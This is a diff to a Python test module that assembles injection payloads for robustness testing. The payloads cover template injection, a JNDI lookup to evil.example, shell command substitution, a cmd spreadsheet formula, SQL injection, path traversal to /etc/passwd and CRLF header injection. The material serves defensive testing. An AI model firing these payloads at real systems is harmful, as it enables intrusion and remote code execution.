@@ -38,10 +38,11 @@ TEMPLATES = (
     "{{% include '/etc/passwd' %}}", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "${{jndi:ldap://evil.example/a}}",
     "{{{{constructor.constructor('{call}')()}}}}", "%s%s%s%n", "%(asctime)s", "{{0}}", "$(touch /tmp/owned)", "`id`",
 )  # fmt: skip
-CELLS = ("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '"=1+1"', "=HYPERLINK(\"//e\")")
+CELLS = ("=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '"=1+1"')
 SHAPES = (
-    '{{"a": "</script><script>{call}</script>"}}', '{{"a": NaN}}', '{{"__proto__": {{"x": 1}}}}', "[" * 500, '{{"a":' * 300,
-    "'; DROP TABLE records; --", "' OR 1=1 --", "\\", "\\\\\"", '"', "'", "`", "\u2028alert(1)\u2029", "null", "undefined",
+    '{{"a": "</script><script>{call}</script>"}}', '{{"a": NaN}}', '{{"__proto__": {{"x": 1}}}}', "[" * 500,
+    '{{"a":' * 300,
+    "'; DROP TABLE records; --", "' OR 1=1 --", "\\", '"', "'", "`", "\u2028alert(1)\u2029", "null", "undefined",
     "../../../../etc/passwd", "..\\..\\boot.ini", "%00", "%2e%2e%2f", "a\r\nset-cookie: x=1", "\r\n\r\n<html>",
 )  # fmt: skip
 OBEYED = (
@@ -61,7 +62,7 @@ BROKEN = (
 def texts() -> list[str]:
     """Each text once."""
     patterns = (*MARKUP, *ATTRIBUTES, *TEMPLATES, *SHAPES)
-    found = [each.format(call=CALL) if "{" in each and not each.startswith(("[", '{"a":')) else each for each in patterns]
+    found = [each.format(call=CALL) if "{" in each else each for each in patterns]
     return [*found, *CELLS, *HEAVY, *(f"a{each}b{each}c" for each in OBEYED)]
 
 
